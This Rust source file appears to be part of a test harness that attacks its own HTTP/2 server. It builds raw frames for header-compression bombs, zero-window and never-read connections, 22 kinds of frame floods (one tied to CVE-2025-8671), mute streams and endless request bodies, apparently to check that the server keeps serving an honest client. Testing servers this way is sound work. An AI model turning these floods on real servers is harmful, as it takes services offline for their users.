//! Hostile HTTP/2 clients: endless frames, endless streams, and responses that are never read.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::{JoinSet, yield_now};
use tokio::time::sleep;
use tokio_rustls::client::TlsStream;

use crate::Siege;
use crate::support::{PREFACE, loud, post};

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The header block of `POST /validate`, in HPACK (RFC 7541).
fn head() -> Vec<u8> {
    let mut head = vec![0x83, 0x87];
    for (name, value) in [(1, "localhost"), (4, "/validate")] {
        head.push(name);
        head.push(u8::try_from(value.len()).unwrap());
        head.extend(value.as_bytes());
    }
    head
}

/// Sends small fields once, and then references to them of one byte each, in streams that never
/// end.
pub async fn header_bomb(siege: Arc<Siege>) -> std::io::Result<()> {
    let mut stream = siege.tls("h2").await?;
    stream.write_all(PREFACE).await?;
    let mut first = head();
    for i in 0..100_u8 {
        // A literal with a new name, to be added to the table (RFC 7541, section 6.2.1).
        first.extend([0x40, 3, b'x', b'a' + i / 26, b'a' + i % 26, 0]);
    }
    stream
        .write_all(&frame(HEADERS, END_HEADERS, 1, &first))
        .await?;
    let mut bomb = head();
    bomb.extend((0..900_u16).map(|i| 0xbe | u8::try_from(i % 2).unwrap()));
    for id in (3..256).step_by(2) {
        stream
            .write_all(&frame(HEADERS, END_HEADERS, id, &bomb))
            .await?;
    }
    stream.read_to_end(&mut Vec::new()).await.map(|_| ())
}

/// Asks for responses, and leaves no HTTP/2 window for them.
pub async fn no_window(siege: Arc<Siege>) -> std::io::Result<()> {
    let mut client = siege.http2(0).await.map_err(std::io::Error::other)?;
    let mut calls = JoinSet::new();
    for _ in 0..120 {
        client.ready().await.map_err(std::io::Error::other)?;
        calls.spawn(client.send_request(post(loud(300))));
    }
    let mut untaken = Vec::new();
    while let Some(answer) = calls.join_next().await {
        untaken.push(answer.unwrap().map_err(std::io::Error::other)?);
    }
    std::future::pending().await
}

/// Asks for responses with the largest window, on a socket that is never read.
pub async fn never_read(siege: Arc<Siege>) -> std::io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4096)?;
    let mut stream = siege.tls_over(socket, "h2").await?;
    stream.write_all(PREFACE).await?;
    let window = [0, 4, 0x7f, 0xff, 0xff, 0xff];
    stream.write_all(&frame(4, 0, 0, &window)).await?;
    stream.write_all(&frame(8, 0, 0, &[0x7f, 0, 0, 0])).await?;
    let body = loud(300);
    for id in (1..).step_by(2) {
        stream
            .write_all(&frame(HEADERS, END_HEADERS, id, &head()))
            .await?;
        stream
            .write_all(&frame(DATA, END_STREAM, id, &body))
            .await?;
    }
    Ok(())
}

const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PUSH_PROMISE: u8 = 5;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0x2a;
const ACK: u8 = 1;
const PADDED: u8 = 8;

/// One step of a flood, for the stream with this number. If it breaks the protocol, the server
/// closes the connection, and the attacker connects again.
type Flood = fn(u32) -> Vec<u8>;

/// The frame that begins a stream.
fn begun(id: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, id, &head())
}

/// Frames that cost their sender nothing.
const FLOODS: [(&str, Flood); 22] = [
    ("empty DATA", |_| frame(DATA, 0, 1, b"")),
    ("padding", |_| {
        frame(DATA, PADDED, 1, &[&[200][..], &[0; 200]].concat())
    }),
    ("DATA for no stream", |id| frame(DATA, 0, id + 2, &[0; 64])),
    ("PRIORITY", |_| frame(PRIORITY, 0, 1, &[0; 5])),
    ("PRIORITY of streams to come", |id| {
        frame(PRIORITY, 0, id, &[0, 0, 0, 1, 9])
    }),
    ("a stream that depends on itself", |id| {
        [
            begun(id),
            frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[9]].concat()),
        ]
        .concat()
    }),
    ("RST_STREAM", |_| frame(RST_STREAM, 0, 1, &[0, 0, 0, 8])),
    ("empty SETTINGS", |_| frame(SETTINGS, 0, 0, b"")),
    ("SETTINGS of many", |_| {
        frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff].repeat(100))
    }),
    ("SETTINGS that no one asked to be taken", |_| {
        frame(SETTINGS, ACK, 0, b"")
    }),
    ("a table that changes its size", |id| {
        let sizes = [0x20, 0x3f, 0xe1, 0x1f].repeat(50);
        frame(HEADERS, END_HEADERS, id, &[sizes, head()].concat())
    }),
    ("PUSH_PROMISE", |_| {
        frame(PUSH_PROMISE, 4, 1, &[0, 0, 0, 2, 0x83])
    }),
    ("PING", |_| frame(PING, 0, 0, &[0; 8])),
    ("PING answered unasked", |_| frame(PING, ACK, 0, &[0; 8])),
    ("GOAWAY", |_| frame(GOAWAY, 0, 0, &[0; 64])),
    ("WINDOW_UPDATE", |_| {
        frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
    }),
    // The server itself resets the streams: CVE-2025-8671.
    ("a window that overflows", |id| {
        [
            begun(id),
            frame(WINDOW_UPDATE, 0, id, &[0x7f, 0xff, 0xff, 0xff]),
        ]
        .concat()
    }),
    ("a window that grows by nothing", |id| {
        [begun(id), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()
    }),
    ("CONTINUATION, empty", |id| match id {
        1 => frame(HEADERS, 0, 3, &head()),
        _ => frame(CONTINUATION, 0, 3, b""),
    }),
    ("CONTINUATION, full", |id| match id {
        1 => frame(HEADERS, 0, 3, &head()),
        _ => frame(CONTINUATION, 0, 3, &[0, 1, b'x', 1, b'y'].repeat(3000)),
    }),
    ("frames of no kind", |_| frame(UNKNOWN, 0, 1, &[0; 64])),
    ("streams taken back", |id| {
        [begun(id), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
    }),
];

/// Pause before an attacker connects again.
const PAUSE: Duration = Duration::from_millis(200);

/// All floods, each on a connection of its own, which is opened again when the server ends it.
pub async fn floods(siege: Arc<Siege>) -> std::io::Result<()> {
    let mut floods = JoinSet::new();
    for (_, step) in FLOODS {
        let siege = Arc::clone(&siege);
        floods.spawn(async move {
            loop {
                if let Ok(stream) = siege.tls("h2").await {
                    let _ = flood(stream, step).await;
                }
                sleep(PAUSE).await;
            }
        });
    }
    floods.join_all().await;
    Ok(())
}

async fn flood(mut stream: TlsStream<TcpStream>, step: Flood) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    stream.write_all(&begun(1)).await?;
    let mut id = 1;
    loop {
        let mut steps = Vec::new();
        // Small steps are sent many at a time, large ones one by one.
        while steps.len() < 4096 {
            steps.extend(step(id));
            id += 2;
        }
        stream.write_all(&steps).await?;
        // Lets the honest client run.
        yield_now().await;
    }
}

/// Opens as many streams as possible, and sends nothing on them.
pub async fn mute_streams(siege: Arc<Siege>) -> std::io::Result<()> {
    let mut stream = siege.tls("h2").await?;
    stream.write_all(PREFACE).await?;
    for id in (1..200).step_by(2) {
        stream.write_all(&begun(id)).await?;
    }
    stream.read_to_end(&mut Vec::new()).await.map(|_| ())
}

/// Sends bodies as fast as windows allow, and never ends them.
pub async fn endless_bodies(siege: Arc<Siege>) -> std::io::Result<()> {
    let mut stream = siege.tls("h2").await?;
    stream.write_all(PREFACE).await?;
    for id in (1..32).step_by(2) {
        stream.write_all(&begun(id)).await?;
        for _ in 0..2 {
            stream
                .write_all(&frame(DATA, 0, id, &[b' '; 16_000]))
                .await?;
        }
    }
    stream.read_to_end(&mut Vec::new()).await.map(|_| ())
}
